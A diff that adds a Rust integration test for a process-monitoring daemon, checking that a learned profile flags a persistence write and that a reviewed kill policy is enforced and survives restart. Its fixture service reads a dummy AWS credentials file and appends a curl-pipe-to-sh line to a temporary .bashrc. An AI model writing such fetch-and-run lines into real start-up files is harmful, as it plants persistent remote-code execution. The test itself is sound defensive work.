@@ -1377,3 +1377,120 @@ fn a_non_loopback_metrics_listener_needs_the_opt_in_and_serves_only_metrics() {
     assert_eq!(status, 200, "the API is on the socket");
     daemon.stop();
 }
+
+/// Learn -> review -> enforce with monitorctl against the real daemon: a cgroup watch learns
+/// its service (which reads its credentials, runs a program, and writes a shell's start-up
+/// file, critical and never learned); `watch profile` prints the profile, the credentials
+/// learned and the persistence write only under `never_learned`; the reviewed file, with a
+/// kill policy added, goes back with `watch policy`, and stays the watch's across a restart
+/// of monitord.
+#[test]
+fn monitorctl_watch_learns_prints_its_profile_and_takes_the_reviewed_policy() {
+    root_required();
+    let dir = tempfile::tempdir().unwrap();
+    let key = dir.path().join(".aws/credentials");
+    std::fs::create_dir_all(key.parent().unwrap()).unwrap();
+    std::fs::write(&key, "[default]\n").unwrap();
+    let (go, bashrc) = (dir.path().join("go"), dir.path().join(".bashrc"));
+    let cgroup =
+        monitor_daemon::cgroup::JobCgroup::create(&format!("test-learnctl-{}", std::process::id()))
+            .unwrap();
+    let monitorctl = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/release/monitorctl");
+    assert!(monitorctl.is_file(), "{} is missing", monitorctl.display());
+    let mut served = KillOnDrop(spawn_in(
+        cgroup.path(),
+        &format!(
+            "while [ ! -e {go} ]; do sleep 0.05; done; read -r x < {key}; /usr/bin/true; \
+             echo 'curl -s http://127.0.0.1:1/x | sh' >> {bashrc}",
+            go = go.display(),
+            key = key.display(),
+            bashrc = bashrc.display()
+        ),
+    ));
+    let daemon = Daemon::start(dir.path());
+    let ctl = |daemon: &Daemon, args: &[&str]| {
+        let out = Command::new(&monitorctl)
+            .args(args)
+            .arg("--socket")
+            .arg(&daemon.socket)
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{args:?}: {out:?}");
+        String::from_utf8(out.stdout).unwrap()
+    };
+    let cgroup_path = cgroup.path().display().to_string();
+    let id = ctl(
+        &daemon,
+        &["watch", "add", "--cgroup", &cgroup_path, "--learn", "3s"],
+    )
+    .trim()
+    .to_owned();
+    std::fs::write(&go, "").unwrap();
+    assert!(served.0.wait().unwrap().success());
+    daemon.poll(&format!("/v1/watches/{id}"), 20, |w| {
+        w.get("learning").is_none_or(Value::is_null)
+    });
+
+    let profile = ctl(&daemon, &["watch", "profile", &id]);
+    let (summary, exceptions) = profile
+        .split_once("\nexceptions:")
+        .unwrap_or_else(|| panic!("no exceptions learned:\n{profile}"));
+    assert!(
+        summary.contains("never_learned") && summary.contains("persist.write"),
+        "the refused act is named:\n{profile}"
+    );
+    assert!(
+        exceptions.contains("cred.read") && exceptions.contains(&key.display().to_string()),
+        "the credentials are learned by name:\n{profile}"
+    );
+    assert!(
+        exceptions.contains("/usr/bin/true"),
+        "the program is learned:\n{profile}"
+    );
+    assert!(
+        !exceptions.contains("persist.write"),
+        "never learned:\n{profile}"
+    );
+
+    // Reviewed: a kill policy added, given back.
+    let reviewed = dir.path().join("policy.yaml");
+    std::fs::write(&reviewed, format!("kill_at: high\n{profile}")).unwrap();
+    ctl(
+        &daemon,
+        &["watch", "policy", &id, reviewed.to_str().unwrap()],
+    );
+    let enforced = |w: &Value| {
+        w["policy"]["kill_at"] == "high"
+            && w["policy"]["document"]
+                .as_str()
+                .is_some_and(|d| d.contains("learned-files"))
+    };
+    let (_, watch) = daemon.json("GET", &format!("/v1/watches/{id}"), &Value::Null);
+    assert!(enforced(&watch), "{watch}");
+    daemon.stop();
+    let daemon = Daemon::start(dir.path());
+    let (_, watch) = daemon.json("GET", &format!("/v1/watches/{id}"), &Value::Null);
+    assert!(enforced(&watch), "the policy survived the restart: {watch}");
+    // A bad policy is refused with its line, and the reviewed one stays.
+    std::fs::write(&reviewed, "kill_at: high\nexceptions:\n  - rule: nope\n").unwrap();
+    let out = Command::new(&monitorctl)
+        .args([
+            "watch",
+            "policy",
+            &id,
+            reviewed.to_str().unwrap(),
+            "--socket",
+        ])
+        .arg(&daemon.socket)
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("policy:"),
+        "{out:?}"
+    );
+    let (_, watch) = daemon.json("GET", &format!("/v1/watches/{id}"), &Value::Null);
+    assert!(enforced(&watch), "{watch}");
+    ctl(&daemon, &["watch", "rm", &id]);
+    daemon.stop();
+}
